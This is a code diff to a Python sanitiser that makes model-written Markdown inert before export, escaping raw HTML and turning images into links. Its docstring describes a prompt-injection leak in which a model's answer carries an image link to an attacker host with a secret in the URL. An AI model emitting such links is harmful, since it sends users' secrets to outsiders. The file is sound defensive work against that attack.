@@ -6,56 +6,146 @@ notebook keeps. Their renderers pass raw HTML and load any image, so a model ans
 injected text it repeats) with ``![x](https://attacker/?q=<secret>)`` or ``<img src=...>``
 would send a request nobody asked for. Our own renderer (js/src/ui/markdown.ts) shows
 raw HTML as text and turns outside images into links; this does the same for the plain
-Markdown: outside code (fenced blocks and inline code spans, kept byte for byte) ``<``
-becomes ``&lt;`` and ``![`` becomes ``\\![`` (a link the person may open).
+Markdown.
+
+Renderers differ on where code starts and ends (a backslash before a backtick, a code
+span over two lines, a fence inside a list item, a fence closed by ```` ```~ ```` in
+marked), so safety never rests on agreeing with them. Every line comes out inert
+whatever a renderer makes of it: outside code ``<`` becomes ``&lt;`` and ``![`` becomes
+``&#33;[`` (a link the person may open); an inline code span holding ``<`` or ``!`` is
+written as ``<code>`` with its text as character references (shown the same); a fenced
+block is kept as Markdown (highlighted) only where every renderer reads it as one
+fence, otherwise, when it holds ``<`` or ``![``, it is one ``<pre><code>`` line. The
+only ``<`` left are those tags of ours.
 """
 
 from __future__ import annotations
 
 import re
 
-# A fence opener: up to 3 spaces, then 3+ backticks or tildes.
-_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
-# An inline code span: a backtick run, the shortest text, the same run again.
-_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)")
+# A fence opener: up to 3 spaces, 3+ backticks or tildes, the info string.
+_FENCE = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
+_BACKTICKS = re.compile(r"`+")
+# ASCII punctuation (and line ends), written as character references inside our
+# <code>: no Markdown (emphasis, escapes, images) and no HTML can come of it anywhere.
+_REFERENCES = {
+    c: f"&#{c};" for c in [*range(0x21, 0x30), *range(0x3A, 0x41), *range(0x5B, 0x61)]
+} | {c: f"&#{c};" for c in [*range(0x7B, 0x7F), 0x0A, 0x0D]}
 
 
 def _inert_text(text: str) -> str:
-    return text.replace("<", "&lt;").replace("![", "\\![")
+    return text.replace("<", "&lt;").replace("![", "&#33;[")
+
+
+def _references(text: str) -> str:
+    return text.translate(_REFERENCES)
+
+
+def _inert_span(span: str, run: int) -> str:
+    body = span[run:-run]
+    if "<" not in body and "!" not in body:
+        return span  # nothing in it can become HTML or an image, however read
+    if body.startswith(" ") and body.endswith(" ") and body.strip(" "):
+        body = body[1:-1]  # as CommonMark shows a span
+    return f"<code>{_references(body)}</code>"
+
+
+def _code_spans(line: str) -> list[tuple[int, int, int]]:
+    """The line's code spans (start, end, run length): a backtick run up to the next run
+    of the same length. Each run's next of its length is found in one pass from the
+    right, so the work is linear (a regex's lazy search for the closing run read the
+    rest of the line again for every run of a length never repeated)."""
+    runs = [(m.start(), m.end()) for m in _BACKTICKS.finditer(line)]
+    following: list[int] = [-1] * len(runs)
+    last_of: dict[int, int] = {}
+    for i in range(len(runs) - 1, -1, -1):
+        size = runs[i][1] - runs[i][0]
+        following[i] = last_of.get(size, -1)
+        last_of[size] = i
+    spans: list[tuple[int, int, int]] = []
+    i = 0
+    while i < len(runs):
+        j = following[i]
+        if j < 0:
+            i += 1
+            continue
+        spans.append((runs[i][0], runs[j][1], runs[i][1] - runs[i][0]))
+        i = j + 1
+    return spans
 
 
 def _inert_line(line: str) -> str:
+    if "`" not in line:
+        return _inert_text(line)
     out: list[str] = []
     last = 0
-    for span in _CODE_SPAN.finditer(line):
-        out.append(_inert_text(line[last : span.start()]))
-        out.append(span.group(0))
-        last = span.end()
+    for start, end, run in _code_spans(line):
+        out.append(_inert_text(line[last:start]))
+        out.append(_inert_span(line[start:end], run))
+        last = end
     out.append(_inert_text(line[last:]))
     return "".join(out)
 
 
+def _indent(line: str) -> int:
+    return len(line) - len(line.lstrip(" "))
+
+
+def _closes(line: str, fence: str, strict: bool) -> bool:
+    """Whether ``line`` closes ``fence``: as CommonMark says (``strict``), or as some
+    renderer might (the fence's characters, then anything)."""
+    match = _FENCE.match(line)
+    if match is None or match.group(2)[0] != fence[0] or len(match.group(2)) < len(fence):
+        return False
+    return not match.group(3).strip() if strict else True
+
+
+def _fence_block(lines: list[str], start: int) -> tuple[list[str], int] | None:
+    """The inert form of the fence opened at ``lines[start]`` and the index after it,
+    or None when that line opens no fence."""
+    opener = _FENCE.match(lines[start])
+    if opener is None:
+        return None
+    indent, fence, info = opener.groups()
+    if fence[0] == "`" and "`" in info:
+        return None  # CommonMark: not a fence, a code span
+    end = start + 1
+    while end < len(lines) and not _closes(lines[end], fence, strict=True):
+        if indent and lines[end].strip() and _indent(lines[end]) < len(indent):
+            break  # the list item the fence is in ends here, and the fence with it
+        end += 1
+    body = lines[start + 1 : end]
+    closed = end < len(lines) and _closes(lines[end], fence, strict=True)
+    closing = lines[end : end + 1] if closed else []
+    # Every renderer reads it as this one fence: at the margin (no list item or quote
+    # around it) and no line inside that some renderer would take as its end.
+    agreed = not indent and not any(_closes(line, fence, strict=False) for line in body)
+    text = "\n".join(body)
+    after = end + len(closing)
+    if agreed or ("<" not in text and "![" not in text):
+        opener_line = lines[start][: -len(info) or None] + _inert_text(info)
+        return [opener_line, *body, *closing], after
+    if indent:  # a body line shows without the opener's indentation, as CommonMark does
+        text = "\n".join(line[min(len(indent), _indent(line)) :] for line in body)
+    words = info.split()
+    language = re.sub(r"[^\w+-]", "", words[0]) if words else ""
+    cls = f' class="language-{language}"' if language else ""
+    return [f"{indent}<pre><code{cls}>{_references(text)}</code></pre>"], after
+
+
 def inert_markdown(text: str) -> str:
-    """``text`` with raw HTML shown as text and images as links, code left alone."""
+    """``text`` with raw HTML shown as text and images as links, code shown as code."""
     if "<" not in text and "![" not in text:
         return text
     lines = text.split("\n")
-    fence: str | None = None
-    for i, line in enumerate(lines):
-        opener = _FENCE.match(line)
-        if fence is not None:
-            # Inside a fence until a line of the same character, at least as long.
-            closes = (
-                opener is not None
-                and opener.group(1)[0] == fence[0]
-                and len(opener.group(1)) >= len(fence)
-                and not line.strip().strip(fence[0])
-            )
-            if closes:
-                fence = None
-            continue
-        if opener:
-            fence = opener.group(1)
-            continue
-        lines[i] = _inert_line(line)
-    return "\n".join(lines)
+    out: list[str] = []
+    i = 0
+    while i < len(lines):
+        block = _fence_block(lines, i)
+        if block is None:
+            out.append(_inert_line(lines[i]))
+            i += 1
+        else:
+            kept, i = block
+            out.extend(kept)
+    return "\n".join(out)
